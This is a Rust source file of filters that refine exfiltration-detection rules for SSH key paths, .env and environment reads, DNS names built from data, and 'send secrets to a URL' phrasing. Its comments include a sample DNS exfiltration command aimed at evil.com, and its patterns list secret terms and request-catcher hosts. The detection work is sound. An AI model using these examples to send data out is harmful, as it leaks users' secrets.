//! Post-filters of the exfiltration rules that concern one rule each: private SSH paths,
//! `.env` loading, environment reads that are not dumps, DNS names built from data, and what
//! counts as sensitive in "send … to https://…".

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::checks::{self, compile, found};
use super::text::{after, before};

/// Private-key paths; public keys, known_hosts, config and ssh's own tools are fine.
pub(super) fn ssh_private(line: &str, m: Range<usize>) -> bool {
    let name: String = match after(line, m.end).strip_prefix('/') {
        Some(rest) => rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || "._*-".contains(*c))
            .collect(),
        None => String::new(),
    };
    if name.ends_with(".pub")
        || matches!(
            name.as_str(),
            "known_hosts" | "known_hosts2" | "config" | "authorized_keys"
        )
    {
        return false;
    }
    let segment = before(line, m.start)
        .rsplit([';', '&', '|', '(', '`'])
        .next()
        .unwrap_or("");
    !segment.split_whitespace().any(|word| {
        let word = word
            .rsplit(['=', '"', '\''])
            .next()
            .unwrap_or(word)
            .to_ascii_lowercase();
        matches!(
            word.rsplit('/').next().unwrap_or(""),
            "ssh"
                | "ssh-add"
                | "ssh-keygen"
                | "ssh-copy-id"
                | "mkdir"
                | "chmod"
                | "chown"
                | "identityfile"
        )
    })
}

/// `~/.aws/config` holds no secrets.
pub(super) fn aws_private(line: &str, m: Range<usize>) -> bool {
    !after(line, m.end).starts_with("/config")
}

static ENV_EXPORT: LazyLock<Option<Regex>> = LazyLock::new(|| compile(r#"export\s+["']?\$\(\s*$"#));

/// `export $(cat .env | xargs)` loads one's own settings; everything else is a read.
pub(super) fn not_env_export(line: &str, m: Range<usize>) -> bool {
    !found(&ENV_EXPORT, before(line, m.start)).unwrap_or(false)
}

static MEMBERSHIP: LazyLock<Option<Regex>> =
    LazyLock::new(|| compile(r#"["']\s+(?:not\s+)?in\s*$"#));

/// Hermes exempts `os.environ.get("NAME")`; copies for a child process, literal subscripts and
/// membership tests read nothing wholesale either.
pub(super) fn python_environ_dump(line: &str, m: Range<usize>) -> bool {
    let prefix = before(line, m.start);
    if prefix.ends_with("**") || found(&MEMBERSHIP, prefix).unwrap_or(false) {
        return false;
    }
    let rest = after(line, m.end).trim_start();
    let literal_arg = |open: &str| {
        rest.strip_prefix(open)
            .is_some_and(|r| r.trim_start().starts_with(['"', '\'']))
    };
    let method = |name: &str| {
        rest.strip_prefix('.')
            .is_some_and(|r| r.trim_start().starts_with(name))
    };
    !(literal_arg("[")
        || rest.strip_prefix(".get").is_some_and(|r| {
            r.trim_start()
                .strip_prefix('(')
                .is_some_and(|a| a.trim_start().starts_with(['"', '\'']))
        })
        || method("copy(")
        || method("setdefault(")
        || method("pop(")
        || method("update("))
}

/// `process.env.NAME`, `process.env["NAME"]` and `{...process.env}` are not dumps.
pub(super) fn node_env_dump(line: &str, m: Range<usize>) -> bool {
    let rest = after(line, m.end).trim_start();
    let single_name = rest.starts_with('.') || rest.starts_with("?.");
    let literal = rest
        .strip_prefix('[')
        .is_some_and(|r| r.trim_start().starts_with(['"', '\'', '`']));
    !(single_name || literal || before(line, m.start).ends_with("..."))
}

static DATA_LABEL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(r"\$(?:\{[^}]*\}|\w+|\([^)]*\))\.[a-z0-9-]+|\{[^}]+\}\.[a-z0-9-]+\.[a-z]")
});

/// `dig $(whoami).evil.com` / `nslookup ${TOKEN}.x.y`, not `dig +short $DOMAIN`.
pub(super) fn dns_label_from_data(line: &str, m: Range<usize>) -> bool {
    found(&DATA_LABEL, after(line, m.start)).unwrap_or(true)
}

static SENSITIVE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r"\b(?:secrets?|credentials?|api[\s_-]?keys?|keys?|tokens?|passwords?|conversation|chat\s+history|history|memor(?:y|ies)|env(?:ironment)?|\.env|ssh|cookies?|sessions?|transcripts?|system\s+prompt|(?:user'?s?|their)\s+(?:data|files|messages))\b",
    )
});
static SUSPECT_HOST: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r"https?://(?:\d{1,3}\.){3}\d{1,3}|webhook\.site|requestbin|pipedream|hookbin|ngrok|interact\.sh|oast\.",
    )
});

/// "send the API keys to https://…", or anything to a raw IP / request catcher; not loopback.
pub(super) fn sends_sensitive(line: &str, m: Range<usize>) -> bool {
    let rest = after(line, m.end.saturating_sub(8));
    let host = rest.split("://").nth(1).unwrap_or("");
    let host = host
        .split(['/', ':', ' ', '"', '\'', ')', '>'])
        .next()
        .unwrap_or("");
    if checks::is_loopback(&host.to_ascii_lowercase()) {
        return false;
    }
    let said = after(before(line, m.end), m.start);
    found(&SENSITIVE, said).unwrap_or(true) || found(&SUSPECT_HOST, rest).unwrap_or(true)
}
